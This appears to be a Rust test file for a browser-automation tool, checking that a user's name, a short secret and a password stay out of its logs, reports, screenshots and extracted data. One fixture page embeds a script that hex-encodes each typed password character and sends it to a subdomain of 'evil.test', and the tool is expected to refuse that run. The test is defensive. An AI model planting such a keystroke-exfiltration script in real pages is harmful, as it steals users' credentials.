//! What a signed-in page shows of the one who signed in, where it is hardest to see (R18, R26, cases
//! 068 to 071): run together with other words, written by a style, in a file's name, in a host's name.

use super::lab::{Lab, canary};
use super::ocr::{read, shows};
use super::stage::{LOGIN, Stage};

/// A word like any other: no sign tells it from what stands beside it.
const USER: &str = "marisolquintero";
/// Under eight characters: matched as a word only.
const SHORT: &str = "Qy7!x2";

#[test]
fn r18_r26_cases_068_to_071_what_a_page_makes_of_a_value_stays_inside() {
    let password = canary(16);
    let stage = Stage::open(&password);
    let big = "<style>body{font:24px 'DejaVu Sans Mono',monospace}</style>";
    let page = |path: &str, body: &str| {
        stage.page(
            "shop.test",
            path,
            &format!("<title>Shop</title>{big}{body}"),
        );
    };
    let to = |path: &str| LOGIN.replace("/session", &format!("/session?next={path}"));
    page("/login", LOGIN);
    page(
        "/home",
        &format!(
            "<style>.a::before{{content:'{USER}'}}.b::after{{content:attr(data-u)}}</style><h1>Orders</h1>\
         <nav><span>{USER}</span><a href=#>Sign out</a></nav><p>Hello <b>{USER}</b></p>\
         <button><i>{USER}</i><b>menu</b></button><p class=a></p><p class=b data-u={USER}></p>\
         <a download={USER}.csv href=\"data:text/csv,a%2Cb\">Export</a>"
        ),
    );
    page(
        "/short",
        &format!(
            "{}<p>Your word: <b>{SHORT}</b><i>copied</i></p>",
            to("/short")
        ),
    );
    // The page's own script sends every key to a host made of what stands in the field.
    page(
        "/hosts",
        &format!(
            "{LOGIN}<script>document.querySelector('[type=password]').oninput = e => {{ let h = ''; \
         for (const c of e.target.value) h += c.charCodeAt().toString(16).padStart(2, '0'); \
         new Image().src = 'http://' + h.slice(0, 60) + '.evil.test/' }}</script>"
        ),
    );
    let mut lab = Lab::on(&stage, &["shop.test"], true);
    lab.credential("shop", "http://shop.test", USER, &password);
    lab.credential("tiny", "http://shop.test", "somebody@else.test", SHORT);
    let signed_in = "start: http://shop.test/login\ncredentials: [shop]\nsteps:\n  - login: shop\n";
    // The id holds the name, and so does what the author wrote.
    lab.scenario(
        &format!("seen-by-{USER}"),
        &format!(
            "goal: what {USER} sees\n{signed_in}  - click: button \"$(shop.username)menu\"\n\
             \x20 - expect: {{ see: Hello {USER} }}\n  - {{ click: Export, download: \"*.csv\" }}\nexpect: [ {{ see: \"Hello {USER}\" }} ]\n"
        ),
    );
    lab.scenario(
        "nearest",
        &format!("{signed_in}    timeout: 3s\nexpect: [ {{ see: nowhere Sign out }} ]\n"),
    );
    lab.scenario(
        "short",
        "start: http://shop.test/short\ncredentials: [tiny]\nsteps:\n  - { click: heading \"Sign in\" }\n\
         expect: [ { see: Your word copied } ]\n",
    );
    lab.scenario(
        "hosts",
        "start: http://shop.test/hosts\ncredentials: [shop]\nsteps:\n  - { fill: Password, credential: shop.password }\n\
         expect: [ { see: Sign in } ]\n",
    );
    let run = lab.run(&["--fresh", "--suggest"]);
    let said = format!("{}\n{}", run.stdout, run.stderr);
    let seen = format!("seen-by-{USER}");
    run.check(&[
        (&seen, "passed/completed"),
        ("nearest", "not_completed/not_completed"),
        ("short", "not_completed/not_completed"),
        ("hosts", "refused/secret_in_url"),
    ]);
    assert_eq!(run.code, 4, "{said}");
    let end = run.events.last().expect("an end");
    assert_eq!(end["exit"], 4, "the journal knows how the run ended");

    // Nothing said and nothing written holds a value; a scenario's id is the author's own.
    let hex: String = password
        .bytes()
        .take(8)
        .map(|b| format!("{b:02x}"))
        .collect();
    let mut all = vec![("what was said".to_owned(), said)];
    for file in super::lab::files(run.folder()) {
        let name = file.display().to_string();
        assert!(!name.replace(&seen, "").contains(USER), "{name}");
        let bytes = std::fs::read(&file).expect("a file");
        all.push((name, String::from_utf8_lossy(&bytes).into_owned()));
    }
    for (name, text) in &all {
        let text = text.replace(&seen, "");
        if let Some(at) = text.find(USER) {
            let around = text[..at].chars().rev().take(150).collect::<Vec<_>>();
            let around: String = around.into_iter().rev().collect();
            panic!("the user name in {name}, behind {around}");
        }
        assert!(!text.contains(SHORT), "the short value in {name}");
        assert!(!text.contains(&hex), "the value as a host in {name}");
    }
    for file in ["junit.xml", "report.html", "report.json", "summary.md"] {
        assert!(run.folder().join(file).is_file(), "{file} is there");
    }
    for id in [&seen, "nearest", "short"] {
        let pictures = run.pictures(id);
        assert!(!pictures.is_empty(), "{id} has pictures");
        for (step, picture) in pictures {
            let text = read(&picture);
            assert!(
                !shows(&text, USER),
                "{id} {step} {}: {text}",
                picture.display()
            );
            assert!(!text.contains("qy7x2"), "{id} {step}: {text}");
        }
    }
}

/// What is extracted is judged as what is read: at the border of an element a value is a word.
#[test]
fn r18_r93_a_name_beside_another_element_is_hidden_in_extracted_data() {
    let stage = Stage::open("");
    stage.page(
        "site.test",
        "/page",
        "<title>Page</title><h1>Orders</h1>\
         <p id=who>Signed in as <b>annabel</b><a href='#'>Sign out</a></p>\
         <p id=loud style='text-transform:uppercase'>Hi<i>annabel</i>sign out</p>\
         <p id=cut><i>an</i><span hidden>annabel</span><b>na</b>bel<a href='#'>Sign out</a></p>\
         <p id=word>annabelsign</p>\
         <table><tr><td>7</td><td><i>annabel</i>today</td></tr></table>",
    );
    let mut lab = Lab::on(&stage, &["site.test"], true);
    lab.credential("ada", "http://site.test", "annabel", &canary(14));
    let start = "start: http://site.test/page\ncredentials: [ada]\n";
    lab.scenario(
        "names",
        &format!(
            "{start}steps:\n  - extract: {{ who: '#who', loud: '#loud', cut: '#cut', word: '#word', rows: {{ each: tr, fields: {{ by: 'td:last-child' }} }} }}\nexpect: [ {{ see: Orders }} ]\n"
        ),
    );
    lab.scenario(
        "bad-next",
        &format!(
            "{start}steps:\n  - extract: {{ rows: {{ each: tr, fields: {{ by: td }}, next: {{ css: 'a[[' }} }} }}\nexpect: [ {{ see: Orders }} ]\n"
        ),
    );
    let run = lab.run(&["--fresh"]);
    run.check(&[
        ("names", "passed/completed"),
        ("bad-next", "failed/bad_selector"),
    ]);
    let data = std::fs::read_to_string(run.folder().join("names/data.json")).expect("data");
    let data: serde_json::Value = serde_json::from_str(&data).expect("JSON");
    let name = "‹ada.username›";
    assert_eq!(data["who"], format!("Signed in as {name}Sign out"));
    assert_eq!(data["loud"], format!("HI{name}SIGN OUT"));
    assert_eq!(data["cut"], format!("{name}Sign out"));
    assert_eq!(data["word"], "annabelsign", "a part of a word is no name");
    assert_eq!(data["rows"][0]["by"], format!("{name}today"));
}
